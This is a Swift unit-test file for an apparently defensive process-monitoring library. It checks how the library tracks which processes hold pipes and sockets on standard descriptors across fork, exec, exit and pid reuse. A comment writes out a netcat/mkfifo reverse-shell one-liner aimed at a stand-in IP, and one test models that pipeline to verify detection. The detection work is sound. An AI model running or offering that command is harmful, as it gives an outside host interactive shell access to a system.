// SPDX-License-Identifier: Apache-2.0
// processes(holdingInode:): which live processes hold a pipe or socket on fds 0-2, maintained
// incrementally through fork (inherited), exec (re-read), descriptor updates and exit.

import XCTest
@testable import RuntimeWatchCore

final class StateInodeTests: XCTestCase {
    func pids(_ records: [ProcessRecord]) -> [Int32] { records.map(\.pid.rawValue) }

    /// `mkfifo f; sh -i < f 2>&1 | nc 198.51.100.7 4444 > f`: sh reads the fifo and writes the
    /// pipe; nc reads the pipe and writes the fifo.
    func testMkfifoPipelineEndsAreFound() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(1, ppid: 0, exe: "/sbin/init"))
        state.apply(b.snapshot(30, ppid: 1, exe: "/bin/bash"))
        let fifo: UInt64 = 4242, pipe: UInt64 = 4343
        state.apply(b.fork(parent: 30, child: 31))
        state.apply(b.exec(31, ppid: 30, exe: "/bin/sh", fds: [
            DescriptorInfo(fd: 0, kind: .pipe, target: "pipe:[\(fifo)]", inode: fifo),
            DescriptorInfo(fd: 1, kind: .pipe, target: "pipe:[\(pipe)]", inode: pipe),
            DescriptorInfo(fd: 2, kind: .pipe, target: "pipe:[\(pipe)]", inode: pipe),
        ]))
        state.apply(b.fork(parent: 30, child: 32))
        state.apply(b.exec(32, ppid: 30, exe: "/usr/bin/nc", fds: [
            DescriptorInfo(fd: 0, kind: .pipe, target: "pipe:[\(pipe)]", inode: pipe),
            DescriptorInfo(fd: 1, kind: .pipe, target: "pipe:[\(fifo)]", inode: fifo),
            DescriptorInfo(fd: 2, kind: .tty, target: "/dev/pts/0"),
            DescriptorInfo(fd: 3, kind: .socket, target: "socket:[999]", inode: 999),
        ]))
        XCTAssertEqual(pids(state.processes(holdingInode: fifo)), [31, 32])
        XCTAssertEqual(pids(state.processes(holdingInode: pipe)), [31, 32])
        XCTAssertEqual(pids(state.processes(holdingInode: 999)), [], "only descriptors 0-2 are indexed")

        state.apply(b.exit(32))
        XCTAssertEqual(pids(state.processes(holdingInode: pipe)), [31], "exited processes hold nothing")
        state.apply(b.descriptors(31, TraceBuilder.streams(.socket, inode: 5000)))
        XCTAssertEqual(pids(state.processes(holdingInode: fifo)), [])
        XCTAssertEqual(pids(state.processes(holdingInode: 5000)), [31])
    }

    func testForkInheritsAndExecReplacesDescriptors() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(40, ppid: 1, exe: "/bin/bash", fds: TraceBuilder.streams(.socket, inode: 77)))
        state.apply(b.fork(parent: 40, child: 41))
        XCTAssertEqual(pids(state.processes(holdingInode: 77)), [40, 41], "a fork shares the parent's descriptors")
        state.apply(b.exec(41, ppid: 40, exe: "/bin/ls", fds: TraceBuilder.streams(.pipe, inode: 88)))
        XCTAssertEqual(pids(state.processes(holdingInode: 77)), [40])
        XCTAssertEqual(pids(state.processes(holdingInode: 88)), [41])
    }

    func testFilesAreNotIndexedEvenWithAnInode() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(50, ppid: 1, exe: "/bin/cat", fds: [DescriptorInfo(fd: 0, kind: .file, target: "/etc/passwd", inode: 12)]))
        XCTAssertEqual(pids(state.processes(holdingInode: 12)), [], "file inodes are per filesystem, not pipe/socket identities")
    }

    func testReusedPidDropsTheOldIncarnationsDescriptors() {
        var state = SystemState()
        var b = TraceBuilder()
        state.apply(b.snapshot(60, ppid: 1, exe: "/bin/sh", startTicks: 10, fds: TraceBuilder.streams(.socket, inode: 600)))
        state.apply(b.snapshot(60, ppid: 1, exe: "/bin/other", startTicks: 20, fds: TraceBuilder.streams(.pipe, inode: 601)))
        XCTAssertEqual(pids(state.processes(holdingInode: 600)), [])
        XCTAssertEqual(pids(state.processes(holdingInode: 601)), [60])
    }
}
